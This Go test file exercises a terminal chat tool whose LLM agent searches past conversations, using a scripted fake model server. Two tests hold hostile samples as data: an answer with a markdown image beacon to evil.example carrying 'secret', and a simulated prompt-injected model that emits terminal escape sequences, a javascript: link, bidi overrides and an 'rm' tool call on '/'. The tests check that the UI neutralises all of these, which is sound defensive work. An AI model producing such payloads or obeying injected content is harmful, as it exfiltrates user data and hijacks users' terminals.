@@ -1,0 +1,202 @@
+package tui
+
+import (
+	"context"
+	"fmt"
+	"iter"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"go.uber.org/goleak"
+
+	"lens/agent"
+	"lens/agent/agenttest"
+	"lens/agent/openai"
+	"lens/agent/tools"
+)
+
+// overHTTP is a chat with a scripted server on loopback: the real client, the real tools, the real run.
+func overHTTP(server *agenttest.Server, e *fakeEngine) Chat {
+	model := openai.New(server.Client(), openai.Options{BaseURL: server.URL, Key: "sk-canary", Model: "gpt-4o", Backoff: time.Millisecond})
+	return Chat{
+		Model: model.Name(), Host: "127.0.0.1", Local: true,
+		Investigate: func(ctx context.Context, messages []agent.Message) iter.Seq2[agent.Event, error] {
+			return agent.Run(ctx, agent.Request{Model: model, Tools: tools.New(e, tools.Options{}), Messages: messages})
+		},
+	}
+}
+
+// chatOn starts the explorer on a terminal, with a scripted model.
+func chatOn(t testing.TB, e *fakeEngine, script agenttest.Script, width, height int) (*terminal, *agenttest.Server) {
+	t.Helper()
+	server := agenttest.New(t, script)
+	term := start(context.Background(), t, Options{Open: func(context.Context) (Engine, error) { return e, nil }, Chat: overHTTP(server, e)}, width, height)
+	term.waitFor(t, fmt.Sprintf("%d turns", len(e.turns)))
+	return term, server
+}
+
+func calls(tool string, arguments ...string) agenttest.Reply {
+	r := agenttest.Reply{Chunks: 3}
+	for _, a := range arguments {
+		r.Calls = append(r.Calls, agenttest.Call{Name: tool, Arguments: a})
+	}
+	return r
+}
+
+// exploring looks broadly, zooms, and reads two turns before it answers.
+func exploring(answer agenttest.Reply) agenttest.Script {
+	return agenttest.Script{Replies: []agenttest.Reply{
+		calls(agent.Peek, `{"query": "cancel", "top_k": 100}`),
+		calls(agent.Peek, `{"query": "cancel", "start_time": "2024-04", "end_time": "2024-06", "top_k": 50, "top_n_snippets": 5}`),
+		calls(agent.Hydrate, `{"turn_id": "$1"}`, `{"turn_id": "$2"}`),
+		answer,
+	}}
+}
+
+func TestAWholeInvestigationInATerminal(t *testing.T) {
+	answer := agenttest.Reply{Chunks: 1, Deltas: 5, Text: "You asked in *spring* [1], and again [2], not [7].\n\n![x](https://evil.example/?q=secret)\n"}
+	term, server := chatOn(t, newFake(800), exploring(answer), 120, 40)
+	term.press(t, "c")
+	term.waitFor(t, "they stay on this machine")
+	term.press(t, "when did I cancel?")
+	term.press(t, "\r")
+	term.waitFor(t, "1 citation of what was not read taken out")
+	term.waitFor(t, "/ cancel")
+	term.waitFor(t, "of this window")
+	term.waitFor(t, "All › 2024-04-01..2024-05-31")
+	term.press(t, "z")
+	for _, line := range []string{"✓ peek  “cancel”", "✓ zoom  “cancel” 2024-04 – 2024-06", "✓ read  [1]", "✓ read  [2]", "You asked in spring [1], and again [2], not .", "! x https://evil.example"} {
+		term.waitFor(t, line)
+	}
+	term.press(t, "z1\r")
+	term.waitFor(t, "You  2024-0")
+	term.waitFor(t, "[1] 2024-0")
+	if n := len(server.Requests()); n != 4 {
+		t.Errorf("the model was asked %d times", n)
+	}
+	term.press(t, "uuuuuu") // the jump, what was read, the zoom, the peek
+	term.waitFor(t, "what are you looking for?")
+	term.press(t, "U")
+	term.waitUntil(t, "the peek", func(screen string) bool { return !strings.Contains(screen, "2024-05-31") && strings.Contains(screen, "/ cancel") })
+	term.press(t, "U")
+	term.waitFor(t, "All › 2024-04-01..2024-05-31")
+	term.press(t, "q")
+	if err := term.ended(t); err != nil {
+		t.Error(err)
+	}
+	term.mustBeRestored(t)
+	if written := term.written.String(); strings.Contains(written, "sk-canary") || strings.Contains(written, "\x1b]8;") {
+		t.Error("a key or a hyperlink was written to the terminal")
+	}
+}
+
+// endless goes on saying something for as long as anybody listens.
+var endless = agenttest.Script{Replies: []agenttest.Reply{{Text: strings.Repeat("word ", 20000), Delay: time.Millisecond}}}
+
+func TestEscStopsTheAnswerAndTheCallOfTheModel(t *testing.T) {
+	term, server := chatOn(t, newFake(30), endless, 80, 24)
+	term.press(t, "cgo on?\r")
+	term.waitFor(t, "word word")
+	term.press(t, "\x1b")
+	term.waitFor(t, "stopped: r asks again")
+	<-server.Gone() // or this test never ends
+	if !strings.Contains(term.shows(), "word word") {
+		t.Errorf("what there was of the answer is gone:\n%s", term.shows())
+	}
+	term.press(t, "q")
+	if err := term.ended(t); err != nil {
+		t.Error(err)
+	}
+}
+
+func TestTenCancelledStreamsLeaveNothingBehind(t *testing.T) {
+	before := goleak.IgnoreCurrent()
+	t.Run("the run", func(t *testing.T) {
+		term, server := chatOn(t, newFake(30), endless, 80, 24)
+		for i := range 10 {
+			term.press(t, fmt.Sprintf("cquestion %d?\r", i))
+			term.waitUntil(t, "an answer", func(screen string) bool {
+				return len(server.Requests()) == i+1 && strings.Contains(screen, "esc stops") && strings.Contains(screen, "word word")
+			})
+			switch i % 3 { // stopped, interrupted, superseded
+			case 0:
+				term.press(t, "\x1b")
+				term.waitUntil(t, "the end of it", func(screen string) bool { return !strings.Contains(screen, "esc stops") })
+			case 1:
+				term.press(t, "\x03")
+				term.waitFor(t, "ctrl+c again quits")
+			}
+		}
+		term.press(t, "q") // in the midst of the last one
+		if err := term.ended(t); err != nil {
+			t.Error(err)
+		}
+		if n := len(server.Requests()); n != 10 {
+			t.Errorf("the server was asked %d times", n)
+		}
+		term.mustBeRestored(t)
+	})
+	goleak.VerifyNone(t, before,
+		goleak.IgnoreAnyFunction("github.com/dlclark/regexp2.runClock"), goleak.IgnoreAnyFunction("github.com/charmbracelet/ultraviolet.(*TerminalReader).StreamEvents"))
+}
+
+func TestWhatBreaksOffIsNoAnswer(t *testing.T) {
+	script := agenttest.Script{Replies: []agenttest.Reply{{Text: strings.Repeat("Half of it. ", 40), Fault: agenttest.Fault{Cut: 4000}}, {Text: "All of it.\n"}}}
+	term, _ := chatOn(t, newFake(30), script, 80, 24)
+	term.press(t, "cgo on?\r")
+	term.waitFor(t, "error: ")
+	term.press(t, "r")
+	term.waitFor(t, "All of it.")
+	term.press(t, "q")
+	if err := term.ended(t); err != nil {
+		t.Error(err)
+	}
+}
+
+// A model that was turned by what it read says, and calls its tools with, whatever would take the terminal over.
+func TestAHostileAnswerIsText(t *testing.T) {
+	run := func(texts []string) string {
+		text := strings.Join(texts, "\n\n") + "\n\n[click](javascript:alert(1)) ![](http://evil.example/x.png) <b>b</b> &#27;[2J &#x202e; [1]: http://evil.example\n\nthe end"
+		script := agenttest.Script{Replies: []agenttest.Reply{
+			calls(agent.Peek, `{"query": "cancel \u001b[2J\u202e\u009b6n", "top_k": 9}`), calls("rm \x1b]0;owned\x07", `{"path": "/"}`), {Text: text, Deltas: 4099},
+		}}
+		e := newFake(30)
+		for i := range e.turns {
+			e.turns[i].Title = texts[i%len(texts)]
+		}
+		term, _ := chatOn(t, e, script, 120, 40)
+		term.press(t, "c"+"well?\r")
+		term.waitFor(t, "the end")
+		term.waitFor(t, "evidence.")
+		term.press(t, "zgz")
+		term.press(t, "q")
+		if err := term.ended(t); err != nil {
+			t.Error(err)
+		}
+		term.mustBeRestored(t)
+		return term.written.String()
+	}
+	plain := controls(run([]string{"mark " + strings.Repeat("word ", 30)}))
+	for _, seq := range controls(run(slices.Concat(hostile, assaults))) {
+		if !draws(seq) && !slices.Contains(plain, seq) {
+			t.Errorf("%q is written to the terminal", seq)
+		}
+	}
+}
+
+// From the key to the screen that says so, the wait for what follows an escape included.
+func BenchmarkEscStops(b *testing.B) {
+	term, _ := chatOn(b, newFake(30), endless, 80, 24)
+	for b.Loop() {
+		b.StopTimer()
+		term.press(b, "cgo on?\r")
+		term.waitFor(b, "esc stops")
+		b.StartTimer()
+		term.press(b, "\x1b")
+		term.waitUntil(b, "the end of it", func(screen string) bool { return !strings.Contains(screen, "esc stops") })
+	}
+	term.press(b, "q")
+	_ = term.ended(b)
+}
